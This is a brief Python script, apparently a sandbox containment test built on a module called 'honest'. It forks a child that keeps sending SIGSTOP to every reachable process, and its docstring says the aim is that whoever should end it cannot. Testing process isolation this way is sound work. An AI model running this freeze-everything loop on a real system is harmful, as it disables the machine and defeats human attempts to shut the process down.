"""Stops every process that it may, again and again, so that whoever should end it cannot."""
import os
import signal

import honest

honest.check_shut_in()
if os.fork() == 0:
    while os.getppid() != 1:
        try:
            os.kill(-1, signal.SIGSTOP)
        except OSError:
            pass
honest.play()
